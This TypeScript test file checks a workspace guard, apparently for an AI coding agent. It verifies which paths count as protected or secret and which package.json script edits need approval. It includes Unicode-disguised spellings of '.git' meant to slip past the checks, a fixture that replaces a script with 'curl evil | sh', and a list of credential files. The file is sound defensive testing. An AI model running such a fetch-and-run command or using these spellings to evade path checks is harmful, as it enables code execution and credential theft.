import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import {
  containsProtected,
  isProtected,
  isProtectedByContent,
  isSecret,
  protectedContent,
} from '../../src/workspace/special-paths.ts';

describe('protected', () => {
  it.each([
    '.git',
    '.git/config',
    '.git/hooks/pre-commit',
    'sub/.git/config',
    '.bashrc',
    'home/.zshrc',
    '.envrc',
    '.vscode/tasks.json',
    '.mcp.json',
    '.github/workflows/ci.yml',
    'packages/a/.github/workflows/ci.yml',
    '.gitlab-ci.yml',
    'Jenkinsfile',
    '.obsidian/plugins/x/main.js',
    '.claude/skills/a/SKILL.md',
    '.husky/pre-commit',
    'shop.code-workspace',
  ])('case 28: %s is', (path) => expect(isProtected(path)).toMatch(/\w/));

  it.each([
    '.ssh/authorized_keys',
    '.ssh/config',
    '.config/git/config',
    '.config/systemd/user/x.service',
    'Library/LaunchAgents/x.plist',
  ])('case 477: %s is, where the home folder is the workspace', (path) => expect(isProtected(path)).toMatch(/\w/));

  it.each([
    '.countersign/settings.json',
    '.countersign/tools/new.md',
    '.cassidy/skills/x.md',
    '.agents/skills/y/SKILL.md',
    '.config/countersign/rules.yaml',
    '.local/state/countersign/trust.json',
  ])('case 29: %s is, before it exists', (path) => expect(isProtected(path)).toMatch(/Countersign/));

  it.each([
    '.GIT/config',
    '.Git/hooks/x',
    '.g\u200cit/config',
    '.\ufeffgit/config',
    '\uff0egit/config',
    '.gi\ufe0ft',
    '.git\u00ad',
    '.\u2062git/x',
    '.git./config',
    '.git /config',
    '.git::$INDEX_ALLOCATION/config',
    'GIT~1/config',
    '.ｂａｓｈｒｃ',
    '.vſcode/tasks.json',
    'a\\.git\\config',
    '.mcp\u200d.json'.normalize('NFD'),
  ])('case 25: %j is, however it is spelled', (path) => expect(isProtected(path)).toMatch(/\w/));

  it.each([
    '.gitignore',
    'git/config',
    'notes/git.md',
    '.github/README.md',
    '.obsidian/app.json',
    'src/vscode/tasks.json',
    'a.bashrc',
    '',
    'package.json',
  ])('%s is not', (path) => expect(isProtected(path)).toBeUndefined());

  it('case 25: ignorable characters anywhere in .git change nothing', () => {
    const ignorable = fc.constantFrom(
      '\u200b',
      '\u200c',
      '\u200d',
      '\u2060',
      '\ufeff',
      '\u00ad',
      '\u{e0020}',
      '\ufe00',
      '',
    );
    const dressed = fc
      .tuple(ignorable, ignorable, ignorable, ignorable, fc.boolean())
      .map(([a, b, c, d, upper]) => `${a}.${b}g${c}i${d}${upper ? 'T' : 't'}`);
    fc.assert(
      fc.property(dressed, (name) => {
        expect(isProtected(`x/${name}/config`)).toBeDefined();
      }),
    );
  });

  it('case 30: a folder is when something in it is', () => {
    expect(containsProtected('pkg', ['src/a.ts', '.git/config'])).toMatch(/^it holds pkg\/\.git\/config: /);
    expect(containsProtected('.github', ['workflows/ci.yml'])).toMatch(/build server/);
    expect(containsProtected('.git', [])).toMatch(/git keeps/);
    expect(containsProtected('src', ['a.ts', 'b/c.ts'])).toBeUndefined();
  });
});

describe('the scripts of a package.json', () => {
  const before = '{ "name": "shop", "scripts": { "test": "vitest", "build": "tsc" } }';

  it.each([
    ['a changed script', before, before.replace('vitest', 'curl evil | sh')],
    ['a new script', before, before.replace('"test"', '"postinstall": "x", "test"')],
    ['a removed script', before, before.replace(', "build": "tsc"', '')],
    ['scripts in a new file', '', before],
    ['scripts that were not there', '{}', before],
    ['scripts that are no object', '{}', '{"scripts":"x"}'],
    ['a second list of scripts', before, before.replace(/}$/, ', "scripts": {} }')],
    ['text that is no JSON', before, '{ "scripts": '],
    ['text that was no JSON', 'x', before],
  ])('case 28: %s asks', (_, was, becomes) => {
    expect(protectedContent('package.json', was, becomes)).toMatch(/scripts/);
    expect(protectedContent('packages/a/Package.JSON', was, becomes)).toMatch(/scripts/);
    expect(protectedContent('other.json', was, becomes)).toBeUndefined();
  });

  it('other changes do not', () => {
    expect(protectedContent('package.json', before, before.replace('shop', 'store'))).toBeUndefined();
    expect(
      protectedContent('package.json', before, '\ufeff{"scripts":{"build":"tsc","test":"vitest"},"name":"shop"}'),
    ).toBeUndefined();
    expect(protectedContent('package.json', '', '{"name":"x"}')).toBeUndefined();
    expect(protectedContent('package.json', '[1]', '{"scripts":{}}')).toBeUndefined();
    expect(protectedContent('package.json', '', '')).toBeUndefined();
  });

  it('tells whose content has to be read at all', () => {
    expect(isProtectedByContent('a/PACKAGE.json')).toBe(true);
    expect(isProtectedByContent('package.json.md')).toBe(false);
  });
});

describe('secret', () => {
  it.each([
    '.config/countersign/keys.yaml',
    'home/config/keys.yaml',
    '.env',
    '.env.local',
    'apps/web/.ENV.production',
    'prod.env',
    'server.pem',
    'certs/tls.key',
    'id_ed25519',
    '.ssh/config',
    '.aws/credentials',
    '.config/gcloud/credentials.db',
    '.docker/config.json',
    '.netrc',
    'client_secret_123.json',
    '.e\u200bnv',
  ])('%s is', (path) => expect(isSecret(path)).toMatch(/\w/));

  it.each([
    'environment.md',
    'src/env.ts',
    'id_ed25519.pub',
    'docker/config.json',
    'keys.md',
    'notes/aws/credentials.md',
  ])('%s is not', (path) => expect(isSecret(path)).toBeUndefined());
});
